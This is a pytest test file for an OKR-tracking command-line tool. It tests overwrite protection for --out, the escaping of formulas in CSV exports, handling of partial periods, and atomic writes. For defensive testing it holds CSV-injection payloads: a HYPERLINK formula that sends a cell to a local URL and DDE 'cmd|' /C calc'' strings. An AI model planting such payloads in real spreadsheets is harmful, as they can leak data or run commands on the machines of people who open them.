"""Nothing lost on a bad day: --out never replaces a workspace's own files,
spreadsheet cells cannot run formulas, and a collect through an earlier day
never replaces a complete period with part of it."""

from __future__ import annotations

import datetime as dt
import hashlib
import os
import re
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from okrdesk.cli import cli
from sample_workspace import WriteWorkspace, trusted


def run(root: Path, *args: str) -> Result:
    return CliRunner().invoke(cli, [*args, "-w", str(root)])


def fingerprint(root: Path) -> dict[str, str]:
    """Every file of the workspace (database included), by content."""
    return {
        p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file() and "__pycache__" not in p.parts
    }


# ------------------------------------------------------------------ --out


@pytest.fixture
def collected(write_workspace: WriteWorkspace, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("OKRDESK_LOAD_PLUGINS", "test_metrics")
    root = write_workspace()
    assert run(root, "collect", "--through", "2026-01-20").exit_code == 0
    return root


@pytest.mark.parametrize(
    ("out", "said", "said_zh"),
    [
        ("okrdesk.db", "that is the workspace's database", "这是工作区的数据库"),
        ("targets/../okrdesk.db", "that is the workspace's database", "这是工作区的数据库"),
        ("okrdesk.db-wal", "that is a file of the workspace's database", "这是工作区数据库的文件"),
        ("targets/plan.toml", "that is a target file", "这是目标文件"),
        ("targets/new-report.toml", "that is a target file", "这是目标文件"),
        ("okrdesk.toml", "that is the workspace's settings (okrdesk.toml)",
         "这是工作区的设置（okrdesk.toml）"),
        ("link-to-db", "that is the workspace's database", "这是工作区的数据库"),
        ("link-to-plan", "that is a target file", "这是目标文件"),
        ("plugins/test_metrics.py", "that is a plugin of the workspace", "这是工作区的插件"),
    ],
)  # fmt: skip
@pytest.mark.parametrize("command", [["export"], ["export", "--format", "csv"], ["report"]])
def test_out_refuses_the_workspace_s_own_files(
    collected: Path,
    monkeypatch: pytest.MonkeyPatch,
    out: str,
    said: str,
    said_zh: str,
    command: list[str],
) -> None:
    root = collected
    (root / "link-to-db").symlink_to(root / "okrdesk.db")
    (root / "link-to-plan").symlink_to(Path("targets") / "plan.toml")
    monkeypatch.chdir(root)
    before = fingerprint(root)
    args = [*command, "--as-of", "2026-01-20"] if command == ["report"] else command
    result = run(root, *args, "--out", out, "--lang", "en")
    assert result.exit_code == 2, result.output
    assert f"--out {out}: {said}; choose another file. Nothing was written." in result.output
    chinese = run(root, *args, "--out", out, "--lang", "zh")
    assert chinese.exit_code == 2, chinese.output
    assert f"--out {out}：{said_zh}；请另选一个文件。未写入任何内容。" in chinese.output
    assert fingerprint(root) == before
    assert run(root, "validate").exit_code == 0


def test_out_still_writes_anywhere_else(collected: Path, tmp_path: Path) -> None:
    out = collected / "reports" / "week.md"
    out.parent.mkdir()
    done = run(collected, "report", "--as-of", "2026-01-20", "--format", "md", "--out", str(out))
    assert done.exit_code == 0, done.output
    assert out.read_text(encoding="utf-8").startswith("#")
    csv = tmp_path / "targets.csv"  # a "targets" name outside the workspace is fine
    assert run(collected, "export", "--format", "csv", "--out", str(csv)).exit_code == 0
    assert csv.read_text(encoding="utf-8").startswith("\ufeffmetric,")
    assert os.stat(csv).st_mode & 0o777 == 0o666 & ~_umask()


CRM_EXPORT_SETTINGS = """\
[sources.sql]
database = "data/crm.sqlite"

[sources.sql.tables]
salons = "data/salons.csv"
accounts = { path = "data/开户明细.csv", encoding = "gbk" }

[[sources.sql.metrics]]
name = "salon_attendees"
kind = "flow"
unit = "人"
query = "SELECT cm_id AS subject, date AS day, attendees AS value FROM salons"
"""


@pytest.mark.parametrize(
    ("out", "key"),
    [
        ("data/salons.csv", "sources.sql.tables.salons"),
        ("data/../data/开户明细.csv", "sources.sql.tables.accounts"),
        ("data/crm.sqlite", "sources.sql.database"),
    ],
)
@pytest.mark.parametrize("command", [["export", "--format", "csv"], ["report", "--format", "md"]])
def test_out_refuses_a_file_the_sql_source_reads(
    write_workspace: WriteWorkspace,
    monkeypatch: pytest.MonkeyPatch,
    out: str,
    key: str,
    command: list[str],
) -> None:
    """A CRM export in data/ is no report's to replace: written over, the next collect
    would read the report as the export, and the export itself is gone."""
    from test_sql_metrics import SALONS_OKRS, sql_only_workspace

    root = sql_only_workspace(write_workspace, SALONS_OKRS, CRM_EXPORT_SETTINGS)
    (root / "data" / "开户明细.csv").write_bytes(
        "开户日期,客户经理\n2026-01-05,cm01\n".encode("gbk")
    )
    (root / "data" / "crm.sqlite").write_bytes(b"")
    monkeypatch.chdir(root)
    before = fingerprint(root)
    result = run(root, *command, "--out", out, "--lang", "en")
    assert result.exit_code == 2, result.output
    assert (f"--out {out}: that is a file the SQL source reads ({key}); choose another file. "
            "Nothing was written.") in result.output  # fmt: skip
    chinese = run(root, *command, "--out", out, "--lang", "zh")
    assert chinese.exit_code == 2, chinese.output
    assert (
        f"--out {out}：这是由 SQL 来源读取的数据文件（{key}）；请另选一个文件。" in chinese.output
    )
    assert fingerprint(root) == before


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


# ------------------------------------------------- formulas in spreadsheets

HOSTILE = [
    '=HYPERLINK("http://127.0.0.1/x?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "=1+2",
    "@SUM(A1)",
    "-1+cmd|' /C calc'!A0",
    "\tcmd",
    "\r=1+2",
]
INSIDE = ["王芳;=1+2", "x\t@SUM(A1)", "a;-1+cmd|' /C calc'!A0", "b\n=1+2"]
"""Formulas after a semicolon or tab: a field of their own where a spreadsheet splits
lines there (Excel in a German or French locale)."""

HOSTILE_PLUGIN = """\
from okrdesk.model import MetricKind, MetricSpec
from okrdesk.plugins import hookimpl
from okrdesk.units import UNITS

SOURCES = {sources!r}


@hookimpl
def okrdesk_metrics(register):
    register(MetricSpec("net_flow", "Net flow", "净流入", MetricKind.FLOW, UNITS["万元"]))


@hookimpl
def okrdesk_collect(request, emit):
    for index, period in enumerate(request.periods):
        emit("net_flow", "cm01", period.id, value=-12.5, source=SOURCES[index % len(SOURCES)])
"""

FLOW_KRS = """
[[objectives.key_results]]
id = "KR3"
title = "净流入"
metric = "net_flow"
target = 100
unit = "万元"

[[objectives.key_results]]
id = "KR4"
title = "客户满意度"
target = 60
unit = "分"
"""


def test_csv_cells_never_run_as_formulas(
    write_workspace: WriteWorkspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    import csv
    import io

    from sample_workspace import OKRS

    root = write_workspace({"okrs.toml": OKRS + FLOW_KRS})
    (root / "plugins" / "hostile.py").write_text(
        HOSTILE_PLUGIN.format(sources=HOSTILE), encoding="utf-8"
    )
    trusted(root)
    monkeypatch.setenv("OKRDESK_LOAD_PLUGINS", "test_metrics,hostile")
    assert run(root, "collect", "--through", "2026-02-28").exit_code == 0
    for day, note in enumerate(HOSTILE + INSIDE, start=1):
        value = "-12.5" if day == 1 else "58"
        args = ["checkin", "-w", str(root), "O1.KR4", "--date", f"2026-02-{day:02d}"]
        done = CliRunner().invoke(cli, [*args, "--note", note, "--", value])
        assert done.exit_code == 0, done.output
        done = run(root, "spend", "add", "training", "1万", "--signed-by", "王芳",
                   "--date", f"2026-02-{day:02d}", "--note", note)  # fmt: skip
        assert done.exit_code == 0, done.output
    cells: dict[str, list[dict[str, str]]] = {}
    for table in ("observations", "checkins", "spend"):
        done = run(root, "export", "--format", "csv", "--table", table)
        assert done.exit_code == 0, done.output
        text = done.output.removeprefix("\ufeff")  # the byte order mark Excel needs
        cells[table] = list(csv.DictReader(io.StringIO(text, newline="")))
        # Read as a spreadsheet splitting at semicolons or tabs would read it, quotes
        # applying only at a field's start: a line break in a cell starts a row.
        for delimiter in ";\t":
            for number, line in enumerate(text.splitlines()):
                fields = line.split(delimiter)
                for field in fields[1:] if number == 0 or line.startswith(table[:3]) else fields:
                    assert not field.lstrip('"').startswith(("=", "+", "@", "-1")), field

    def texts(table: str, field: str) -> set[str]:
        return {row[field] for row in cells[table]}

    # After the carriage return a row starts where lines are split at semicolons: "=1+2"
    # there gets its apostrophe too.
    quoted = {"'" + text for text in HOSTILE if text != "\r=1+2"} | {"'\r'=1+2"}
    assert {t for t in texts("observations", "source") if t.startswith("'")} == quoted
    inside = {"王芳;'=1+2", "x\t'@SUM(A1)", "a;'-1+cmd|' /C calc'!A0", "b\n'=1+2"}
    assert texts("checkins", "note") == quoted | inside
    assert texts("spend", "note") == quoted | inside
    # Numbers stay numbers a spreadsheet can add up: no apostrophe on -12.5.
    flows = [r for r in cells["observations"] if r["metric"] == "net_flow"]
    assert {r["value"] for r in flows} == {"-12.5"}
    assert {r["value"] for r in cells["checkins"]} == {"-12.5", "58"}
    assert texts("spend", "amount_yuan") == {"10000"}
    for table in cells.values():
        for row in table:
            for cell in row.values():
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
                assert not cell.startswith("-") or float(cell) < 0, cell
    # JSON is data for programs: written as stored.
    payload = run(root, "export").output
    assert '"note": "=1+2"' in payload and '"amount_yuan": "10000"' in payload


def test_a_spreadsheet_cell_for_every_kind_of_value() -> None:
    from decimal import Decimal

    from okrdesk.app.export import spreadsheet_cell

    assert spreadsheet_cell(-12.5) == "-12.5"
    assert spreadsheet_cell(-3) == "-3"
    assert spreadsheet_cell(16.0) == "16"  # a count stored as a float: 16 clients
    assert spreadsheet_cell(-0.0) == "0"
    assert spreadsheet_cell(-1e20) == "-1e+20"
    assert spreadsheet_cell(Decimal("-300000.00")) == "-300000.00"
    assert spreadsheet_cell(Decimal("1E+4")) == "10000"
    assert spreadsheet_cell(float("-inf")) == "'-inf"
    assert spreadsheet_cell(float("nan")) == "nan"
    assert spreadsheet_cell(None) == ""
    assert spreadsheet_cell(True) == "True"
    assert spreadsheet_cell("-12.5") == "'-12.5"  # text that looks like a number is text
    assert spreadsheet_cell("2026-W14") == "2026-W14"
    assert spreadsheet_cell("王芳; =1+2") == "王芳; =1+2"
    assert spreadsheet_cell("王芳;=1+2;@A1") == "王芳;'=1+2;'@A1"
    assert spreadsheet_cell("=1;=2") == "'=1;'=2"


def test_a_repeated_text_cell_is_made_safe_every_time() -> None:
    """A firm's export writes each id a hundred thousand times, each made safe once and
    remembered: the same text, a str subclass and the number are still told apart."""
    from enum import StrEnum

    from okrdesk.app.export import spreadsheet_cell

    class Kind(StrEnum):
        FORMULA = "=1+2"

    assert [spreadsheet_cell("=1+2") for _ in range(3)] == ["'=1+2"] * 3
    assert spreadsheet_cell(Kind.FORMULA) == "'=1+2"
    assert [spreadsheet_cell(v) for v in ("-12.5", -12.5, "-12.5")] == ["'-12.5", "-12.5",
                                                                        "'-12.5"]  # fmt: skip


# ------------------------------------------------------- partial periods

DAILY_PLUGIN = """\
import datetime as dt

from okrdesk.model import MetricKind, MetricSpec
from okrdesk.plugins import hookimpl
from okrdesk.units import UNITS


@hookimpl
def okrdesk_metrics(register):
    register(MetricSpec("commission", "Commission", "佣金收入", MetricKind.FLOW, UNITS["元"]))


@hookimpl
def okrdesk_collect(request, emit):
    # 1,000 a day for cm01 and 2,000 for cm02, counted up to the through-day.
    for period in request.periods:
        days = (min(period.end, request.through) - period.start).days + 1
        for number, person in enumerate(request.people, start=1):
            emit("commission", person.id, period.id, value=1000 * number * days,
                 source=f"days {period.start} to {min(period.end, request.through)}")
"""

COMMISSION_KR = """
[[objectives.key_results]]
id = "KR3"
title = "佣金收入"
metric = "commission"
target = 2000000
unit = "元"
"""


@pytest.fixture
def daily(
    write_workspace: WriteWorkspace, monkeypatch: pytest.MonkeyPatch, plans_over: object
) -> Path:
    from sample_workspace import OKRS

    root = write_workspace({"okrs.toml": OKRS + COMMISSION_KR})
    (root / "plugins" / "daily.py").write_text(DAILY_PLUGIN, encoding="utf-8")
    trusted(root)
    monkeypatch.setenv("OKRDESK_LOAD_PLUGINS", "test_metrics,daily")
    return root


def stored(root: Path, period: str | None = None) -> list[tuple[object, ...]]:
    import contextlib
    import sqlite3

    with contextlib.closing(sqlite3.connect(root / "okrdesk.db")) as connection:
        return connection.execute(
            "SELECT metric, period, subject, value, source, run_id, partial_through "
            "FROM observations WHERE metric = 'commission' AND (? IS NULL OR period = ?) "
            "ORDER BY period, subject",
            (period, period),
        ).fetchall()


def collect(root: Path, through: str) -> None:
    done = run(root, "collect", "--through", through)
    assert done.exit_code == 0, done.output


def test_a_collect_through_an_earlier_day_keeps_complete_periods(daily: Path) -> None:
    collect(daily, "2026-12-31")
    before = stored(daily)
    week14 = stored(daily, "2026-W14")
    assert [row[3] for row in week14] == [7000.0, 14000.0]
    collect(daily, "2026-03-31")  # two days into 2026-W14 (Monday 30 March to Sunday 5 April)
    assert stored(daily, "2026-W14") == week14
    after = stored(daily)
    # Weeks up to W13 were collected again (a new run, same numbers); the rest is untouched.
    assert [r for r in after if r[1] >= "2026-W14"] == [r for r in before if r[1] >= "2026-W14"]
    assert [r[:5] for r in after] == [r[:5] for r in before]
    assert all(r[6] is None for r in after)
    shown = run(daily, "explain", "O1.KR3", "--as-of", "2026-04-05", "--person", "cm01")
    assert shown.exit_code == 0 and "未完结" not in shown.output


def test_a_partial_period_is_marked_and_replaced_only_by_more_days(
    daily: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "1000")  # explain's rows whole: what it says, not how it folds
    collect(daily, "2026-03-31")
    assert [(r[3], r[6]) for r in stored(daily, "2026-W14")] == [
        (2000.0, "2026-03-31"), (4000.0, "2026-03-31"),
    ]  # fmt: skip
    assert all(r[6] is None for r in stored(daily) if r[1] < "2026-W14")
    shown = run(daily, "explain", "O1.KR3", "--as-of", "2026-03-31", "--person", "cm01")
    assert shown.exit_code == 0, shown.output
    assert "2026-W14  王芳" in shown.output
    assert "days 2026-03-30 to 2026-03-31  [未完结：数据截至 2026-03-31]" in shown.output
    assert shown.output.count("[未完结") == 1
    shown = run(daily, "explain", "O1.KR3", "--as-of", "2026-03-31", "--person", "cm01",
                "--lang", "en")  # fmt: skip
    assert "days 2026-03-30 to 2026-03-31  [partial: through 2026-03-31]" in shown.output
    export = run(daily, "export", "--format", "csv").output
    # partial_through, slice, grain, ratio, no_rows
    assert ",daily,1,2026-03-31,,week,,0\n" in export
    collect(daily, "2026-03-30")  # fewer days than stored: kept
    assert [(r[3], r[6]) for r in stored(daily, "2026-W14")] == [
        (2000.0, "2026-03-31"), (4000.0, "2026-03-31"),
    ]  # fmt: skip
    collect(daily, "2026-04-02")  # more days: replaced, still partial
    assert [(r[3], r[6]) for r in stored(daily, "2026-W14")] == [
        (4000.0, "2026-04-02"), (8000.0, "2026-04-02"),
    ]  # fmt: skip
    collect(daily, "2026-04-05")  # the whole week
    assert [(r[3], r[6]) for r in stored(daily, "2026-W14")] == [
        (7000.0, None), (14000.0, None),
    ]  # fmt: skip


def test_an_older_database_learns_which_periods_were_partial(tmp_path: Path) -> None:
    import contextlib
    import sqlite3

    import sqlite_utils

    from okrdesk.store import Store
    from okrdesk.store.migrations import MIGRATIONS

    database = tmp_path / "okrdesk.db"
    with contextlib.closing(sqlite3.connect(database, isolation_level=None)) as connection:
        db = sqlite_utils.Database(connection)
        for migration in MIGRATIONS[:4]:
            migration(db)
        connection.execute("PRAGMA user_version = 4")
        connection.execute(
            "INSERT INTO runs (id, started, status, command, through) "
            "VALUES (1, '2026-04-01T00:00:00', 'ok', 'collect', '2026-03-31')"
        )
        for period, start, end in (("2026-W13", "2026-03-23", "2026-03-29"),
                                   ("2026-W14", "2026-03-30", "2026-04-05")):  # fmt: skip
            connection.execute(
                "INSERT INTO observations (metric, period, subject, period_start, period_end, "
                "value, plugin, run_id) VALUES ('commission', ?, 'cm01', ?, ?, 1, 'daily', 1)",
                (period, start, end),
            )
    with Store.open(database) as store:
        found = {o.observation.period: o.partial_through for o in store.observations()}
    assert found == {"2026-W13": None, "2026-W14": dt.date(2026, 3, 31)}


# ------------------------------------------------------------- atomic writes

_RAW_WRITE = re.compile(
    r"\.write_text\(|\.write_bytes\(|\bopen\([^)]*['\"][wax]b?\+?['\"]|shutil\.copy(?:file)?\("
    r"|os\.open\((?![^)]*\bO_RDONLY\))|\.touch\("  # a file opened to read alone writes nothing
)


def test_every_file_okrdesk_writes_goes_through_files_py() -> None:
    """Scratch files in a temporary folder (a plugin's captured output) say so with a
    ``# scratch:`` comment; nothing a user keeps may be written any other way."""
    repo = Path(__file__).resolve().parents[1]
    sources = [*(repo / "src" / "okrdesk").rglob("*.py"),
               *(repo / "plugins" / "okrdesk-brokerage" / "src").rglob("*.py")]  # fmt: skip
    found = [
        f"{path.relative_to(repo)}:{number}: {line.strip()}"
        for path in sources
        if path.name != "files.py"
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if _RAW_WRITE.search(line) and "# scratch:" not in line
    ]
    assert found == []
